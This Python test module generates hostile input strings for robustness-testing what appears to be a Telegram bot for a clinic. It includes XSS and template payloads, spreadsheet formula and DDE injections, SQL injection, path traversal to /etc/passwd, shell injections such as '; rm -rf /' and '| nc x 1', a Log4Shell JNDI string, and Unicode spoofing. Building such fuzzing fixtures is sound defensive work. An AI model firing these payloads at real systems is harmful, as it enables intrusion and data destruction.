"""Texts that were made to break something: what is in them times how it is dressed."""

from collections.abc import Callable, Sequence
from functools import cache
from typing import Final

CORES: Final = (
    # markup of chats and pages
    "<b>bold", "</b></i>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<a href='tg://user?id=1'>x</a>", "&lt;b&gt; &amp;amp; &#x3c;", "*bold _under `code [x](y",
    "```\npre", "||hidden||", "[x](tg://user?id=777000)", "@aftercheck_bot", "#tag $CASH",
    "javascript:alert(1)", "\"'><svg/onload=alert(1)>", "{{7*7}}", "<!--", "]]>", "<?xml?>",
    # formulas of spreadsheets
    "=1+1", '=HYPERLINK("http://x","y")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "a;=1+1", '"=1+1', "＝1+1", "a\n=1+1", 'a,"b"\r\n=c',
    # queries, paths, programs, formats
    "'; DROP TABLE patient; --", '" OR 1=1 --', "1); DELETE FROM alert; --", "%' ESCAPE '\\",
    "../../etc/passwd", "..\\..\\boot.ini", "/dev/null\x01", "file:///etc/passwd", "$(reboot)",
    "`reboot`", "; rm -rf /", "| nc x 1", "%s%n%x %(name)s", "{0.__class__} {name} {", "{clinic}",
    "${jndi:ldap://x/a}", "\\u0000 \\ud83d", "#let x = sys", '#eval("1")', "\\x1b[31m",
    # signs that are not what they seem
    "\x1b[2J\x1b]0;x\x07", "\u202egnp.exe", "\u2066\u2067x\u2069", "a\u200bb\u200c\u200d\ufeff",
    "e" + "\u0301" * 60, "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈", "🇩🇪🇩", "\u0410nna \u0441all",
    "ﷺ﷽", "عندي ألم ٣٨٫٦", "שלום", "१०१ ½ Ⅷ", "İıſK", "\ufffe\uffff",
    "line\u2028sep\u2029par\x85nel",
    "\U000e0041\U000e007f", "\ue000\U0010ffff", "half \ud83d sign", "low \udc00 sign", "nul\x00nul",
    "\ufff9\ufffa\ufffb", "𝕴 𝖈𝖆𝖓𝖓𝖔𝖙", "null", "undefined", "NaN", "true", "[]", "{}",
)  # fmt: skip
"""At least one of each kind of docs/sources.md, hostile-texts."""

DRESSES: Final = (
    "¤", " ¤ ", "it burns ¤", "¤ it burns", "¤¤¤", '"¤"', "'¤'", "(¤)", "\n¤\n", "a\r\n\r\n¤",
    "\u202e¤", "\u200b¤", "¤\ufe0f", "«¤»", "“¤”\n• “", '="¤"', "¤,¤;¤", "\\¤\\", "¤\t|\t",
    "<i>¤</i>", "Claimed by Ben\n¤", "¤" + "!" * 350, "¤🙂" * 60,
)  # fmt: skip
"""What stands about a core, at ¤."""

TURNED: Final[Sequence[Callable[[str], str]]] = (
    str.upper, "\u200b".join, lambda core: core[::-1],
    lambda core: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in core),
)  # fmt: skip
"""A core in capitals, with nothing between its signs, backwards, and in letters of full width."""

LENGTHS: Final = (255, 256, 299, 300, 301, 2_999, 3_000, 3_001, 3_499, 3_500, 3_501, 4_000, 4_001,
                  4_095, 4_096)  # fmt: skip
LONGER: Final = (4_097, 10_000, 100_000)
"""Longer than Telegram lets anybody write; a setting or a later Telegram may be so long."""
FILLERS: Final = ("x", "é", "字", "🙂", "a ", "<", "\u202e", "\n")


@cache
def hostile_texts() -> tuple[str, ...]:
    """Return every text once, always in the same order."""
    dressed = [dress.replace("¤", core) for core in CORES for dress in DRESSES]
    dressed += [turn(core) for core in CORES for turn in TURNED]
    long = [(filler * size)[:size] for size in (*LENGTHS, *LONGER) for filler in FILLERS]
    return tuple(dict.fromkeys(one for one in [*dressed, *long] if one.strip()))
